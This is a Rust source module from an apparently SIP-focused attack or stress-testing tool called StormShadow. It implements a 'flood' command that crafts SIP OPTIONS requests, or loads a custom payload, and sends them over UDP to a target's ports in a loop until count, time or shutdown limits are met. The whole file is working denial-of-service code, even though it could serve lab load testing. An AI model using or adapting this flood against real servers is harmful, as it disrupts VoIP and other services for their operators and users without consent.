//! Built-in UDP payload flood, run as `stormshadow flood`.

use std::future::Future;
use std::io;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::path::{Path, PathBuf};
use std::time::Duration;

use serde::Serialize;
use tokio::net::UdpSocket;
use tokio::time::Instant;
use tracing::{debug, info, warn};

use super::{AttackPlan, GeneratorCommand};

#[derive(Debug, Clone)]
pub struct FloodOptions {
    pub target: IpAddr,
    pub ports: Vec<u16>,
    /// 0 lets the kernel choose.
    pub source_port: u16,
    /// 0 when bounded by duration only.
    pub count: u64,
    pub duration: Option<Duration>,
    pub delay: Duration,
    pub payload: Vec<u8>,
}

#[derive(Debug, Clone, Default, Serialize)]
pub struct FloodStats {
    pub sent: u64,
    pub bytes: u64,
    pub errors: u64,
    pub elapsed: Duration,
}

/// A SIP OPTIONS request addressed to `user@target:port`.
pub fn default_payload(target: IpAddr, port: u16, user: &str) -> Vec<u8> {
    let host = match target {
        IpAddr::V4(addr) => addr.to_string(),
        IpAddr::V6(addr) => format!("[{}]", addr),
    };
    let call_id = uuid::Uuid::new_v4().simple().to_string();
    let branch = &call_id[..16];
    let tag = &call_id[16..24];

    format!(
        "OPTIONS sip:{user}@{host}:{port} SIP/2.0\r\n\
         Via: SIP/2.0/UDP {host};branch=z9hG4bK{branch}\r\n\
         Max-Forwards: 70\r\n\
         From: <sip:stormshadow@{host}>;tag={tag}\r\n\
         To: <sip:{user}@{host}>\r\n\
         Call-ID: {call_id}\r\n\
         CSeq: 1 OPTIONS\r\n\
         Contact: <sip:stormshadow@{host}>\r\n\
         User-Agent: StormShadow\r\n\
         Accept: application/sdp\r\n\
         Content-Length: 0\r\n\r\n"
    )
    .into_bytes()
}

pub fn load_payload(path: &Path) -> io::Result<Vec<u8>> {
    let payload = std::fs::read(path)?;
    if payload.is_empty() {
        return Err(io::Error::new(
            io::ErrorKind::InvalidData,
            format!("payload file {} is empty", path.display()),
        ));
    }
    Ok(payload)
}

pub(super) fn command(plan: &AttackPlan, self_exe: &Path) -> GeneratorCommand {
    let ports: Vec<String> = plan.target_ports.iter().map(|p| p.to_string()).collect();
    let mut args = vec![
        "flood".to_string(),
        "--target".to_string(),
        plan.target.to_string(),
        "--ports".to_string(),
        ports.join(","),
        "--count".to_string(),
        plan.max_count.to_string(),
        "--user".to_string(),
        plan.sip_user.clone(),
    ];
    if plan.source_port != 0 {
        args.push("--source-port".to_string());
        args.push(plan.source_port.to_string());
    }
    if let Some(duration) = plan.max_duration {
        args.push("--duration-ms".to_string());
        args.push(duration.as_millis().to_string());
    }
    if !plan.delay.is_zero() {
        args.push("--delay-us".to_string());
        args.push(plan.delay.as_micros().to_string());
    }
    if let Some(path) = &plan.payload_path {
        args.push("--payload".to_string());
        args.push(path.display().to_string());
    }

    GeneratorCommand {
        program: PathBuf::from(self_exe),
        args,
    }
}

/// Sends the payload to the target ports in turn until the count or the
/// duration is reached, or `shutdown` resolves.
pub async fn run_flood<F>(options: FloodOptions, shutdown: F) -> io::Result<FloodStats>
where
    F: Future<Output = ()>,
{
    if options.ports.is_empty() {
        return Err(io::Error::new(io::ErrorKind::InvalidInput, "no target ports"));
    }

    let bind: SocketAddr = match options.target {
        IpAddr::V4(_) => (Ipv4Addr::UNSPECIFIED, options.source_port).into(),
        IpAddr::V6(_) => (Ipv6Addr::UNSPECIFIED, options.source_port).into(),
    };
    let socket = UdpSocket::bind(bind).await?;
    info!(
        "Flooding {} ports {:?} from {} ({} byte payload)",
        options.target,
        options.ports,
        socket.local_addr()?,
        options.payload.len()
    );

    let start = Instant::now();
    let deadline = options.duration.map(|d| start + d);
    let mut stats = FloodStats::default();

    tokio::pin!(shutdown);
    let mut next_port = options.ports.iter().cycle();

    loop {
        if options.count > 0 && stats.sent >= options.count {
            break;
        }
        if deadline.is_some_and(|d| Instant::now() >= d) {
            break;
        }
        let Some(port) = next_port.next() else { break };
        let dest = SocketAddr::new(options.target, *port);

        tokio::select! {
            _ = &mut shutdown => {
                debug!("Flood interrupted");
                break;
            }
            result = socket.send_to(&options.payload, dest) => match result {
                Ok(n) => {
                    stats.sent += 1;
                    stats.bytes += n as u64;
                }
                Err(e) => {
                    stats.errors += 1;
                    if stats.errors == 1 || stats.errors % 1000 == 0 {
                        warn!("Send to {} failed: {} ({} errors)", dest, e, stats.errors);
                    }
                }
            },
        }

        if !options.delay.is_zero() {
            tokio::select! {
                _ = &mut shutdown => {
                    debug!("Flood interrupted");
                    break;
                }
                _ = tokio::time::sleep(options.delay) => {}
            }
        }
    }

    stats.elapsed = start.elapsed();
    info!(
        "Flood finished: {} packets, {} bytes, {} errors in {:.1}s",
        stats.sent,
        stats.bytes,
        stats.errors,
        stats.elapsed.as_secs_f64()
    );
    Ok(stats)
}
